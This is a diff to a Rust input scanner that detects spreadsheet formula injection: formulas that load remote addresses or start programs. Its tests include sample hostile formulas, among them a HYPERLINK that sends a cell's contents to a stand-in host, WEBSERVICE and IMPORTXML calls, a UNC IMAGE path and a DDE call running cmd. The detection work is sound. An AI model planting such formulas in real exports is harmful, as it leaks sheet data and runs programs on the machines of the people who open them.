@@ -3,6 +3,9 @@
 //! Their strings stand in double quotes, and pasted into a string of a statement in double quotes a formula
 //! ends it at the first of them. What follows is an error of syntax where that string is a word, for no
 //! operator joins it with what stands before and behind it; so no further quote of the formula ends anything.
+//!
+//! A formula that somebody writes where no formula belongs is computed by whoever opens the export: one that
+//! loads an address tells another machine what is in the sheet.
 
 /// Words that join what stands before and behind them in some dialect.
 const JOINING: &[&[u8]] = words!("sqli", "joining-words");
@@ -10,15 +13,40 @@ const JOINING: &[&[u8]] = words!("sqli", "joining-words");
 /// The length of the longest formula that is read.
 const FORMULA_BYTES_MAX: usize = 8_192;
 
+/// Functions that load what an address names, or lead to it, each with its parenthesis.
+pub(super) const LOADING: &[&[u8]] = words!("command", "formula-loads");
+/// Functions that start a program, or load a library.
+pub(super) const STARTING: &[&[u8]] = words!("command", "formula-starts");
+
 /// True if all of `text` is a formula whose first string that has anything in it is a word.
 pub(super) fn is_inert(text: &[u8]) -> bool {
-    Formula::of(text).is_some_and(|formula| formula.first_string.is_some_and(is_word))
+    Formula::of(text, b"=").is_some_and(|formula| formula.first_string.is_some_and(is_word))
 }
 
 /// True if all of `text` is a formula that names a cell: no statement that takes it for an expression has a
 /// column of that name, and databases look for all columns before they compute anything.
 pub(super) fn names_cell(text: &[u8]) -> bool {
-    Formula::of(text).is_some_and(|formula| formula.names_cell)
+    Formula::of(text, b"=").is_some_and(|formula| formula.names_cell)
+}
+
+/// What a formula does beyond its sheet.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Reach {
+    /// It loads from another machine, or leads to it.
+    Loads,
+    /// It starts a program.
+    Starts,
+}
+
+/// What the formula that all of `text` is does beyond its sheet. Spreadsheets take each of four signs for the
+/// beginning of one.
+pub(super) fn reach(text: &[u8]) -> Option<Reach> {
+    let formula = Formula::of(text, b"=+-@")?;
+    match formula {
+        Formula { starts: true, first_string: Some(_), .. } => Some(Reach::Starts),
+        Formula { loads: true, names_host: true, .. } => Some(Reach::Loads),
+        _ => None,
+    }
 }
 
 #[derive(Debug, Default)]
@@ -26,13 +54,21 @@ struct Formula<'t> {
     /// The first string that has anything in it.
     first_string: Option<&'t [u8]>,
     names_cell: bool,
+    /// It calls a function that loads what an address names.
+    loads: bool,
+    /// It calls a function that starts a program.
+    starts: bool,
+    /// A string of it begins with the address of a machine.
+    names_host: bool,
 }
 
 impl<'t> Formula<'t> {
-    /// The formula that all of `text` is.
-    fn of(text: &'t [u8]) -> Option<Formula<'t>> {
-        let text = text.trim_ascii();
-        let rest = text.strip_prefix(b"=").filter(|_| text.len() <= FORMULA_BYTES_MAX)?;
+    /// The formula that all of `text` is, which begins with one of `signs`.
+    fn of(text: &'t [u8], signs: &[u8]) -> Option<Formula<'t>> {
+        let (first, rest) = text.trim_ascii().split_first()?;
+        if !signs.contains(first) || rest.len() >= FORMULA_BYTES_MAX {
+            return None;
+        }
         let mut formula = Formula::default();
         formula.read(rest).then_some(formula)
     }
@@ -82,6 +118,7 @@ impl<'t> Formula<'t> {
                     if !inner.is_empty() && self.first_string.is_none() {
                         self.first_string = Some(inner);
                     }
+                    self.names_host |= names_host(inner);
                     at += len + 1;
                     has_operand = true;
                 }
@@ -92,6 +129,10 @@ impl<'t> Formula<'t> {
                     at += len - 1;
                     has_operand = text.get(at + 1) != Some(&b'(');
                     self.names_cell |= has_operand && is_cell(name);
+                    let is_one =
+                        |known: &&[u8]| !has_operand && name.eq_ignore_ascii_case(&known[..known.len() - 1]);
+                    self.loads |= LOADING.iter().any(is_one);
+                    self.starts |= STARTING.iter().any(is_one);
                 }
                 _ => return false,
             }
@@ -99,6 +140,13 @@ impl<'t> Formula<'t> {
         }
         depth == 0 && has_operand
     }
+}
+
+/// `https://a.example/?x=`, `//a.example`, `\\\\a\\b`
+fn names_host(text: &[u8]) -> bool {
+    let scheme = text.iter().take_while(|b| b.is_ascii_alphabetic()).count();
+    let after = if scheme > 1 { text[scheme..].strip_prefix(b":") } else { Some(text) };
+    after.is_some_and(|rest| rest.starts_with(b"//") || rest.starts_with(b"\\\\"))
 }
 
 /// The length of a string up to its quote; two of them stand for one.
@@ -158,6 +206,29 @@ mod tests {
             "=CONCAT(A1",
         ] {
             assert!(!names_cell(text.as_bytes()), "{text}");
+        }
+    }
+
+    #[test]
+    fn formulas_that_reach_out() {
+        for (text, wanted) in [
+            ("=HYPERLINK(\"http://a.example/?d=\"&A1,\"x\")", Reach::Loads),
+            ("+webservice(\"https://a.example/\")", Reach::Loads),
+            ("@SUM(1)+IMPORTXML(CONCAT(\"//a.example/?\",B2),\"//a\")", Reach::Loads),
+            ("=IF(A1=1,IMAGE(\"\\\\\\\\a.example\\\\x\"),0)", Reach::Loads),
+            ("=DDE(\"cmd\";\"/C calc\";\"x\")", Reach::Starts),
+        ] {
+            assert_eq!(reach(text.as_bytes()), Some(wanted), "{text}");
+        }
+        for text in [
+            "=HYPERLINK(\"#Sheet2!A1\",\"x\")",
+            "=IMAGE(A1)",
+            "=LEFT(\"https://a.example/\",5)",
+            "=DDE()",
+            "HYPERLINK(\"http://a.example/\",\"x\")",
+            "=HYPERLINK(\"http://a.example/\"",
+        ] {
+            assert_eq!(reach(text.as_bytes()), None, "{text}");
         }
     }
 }
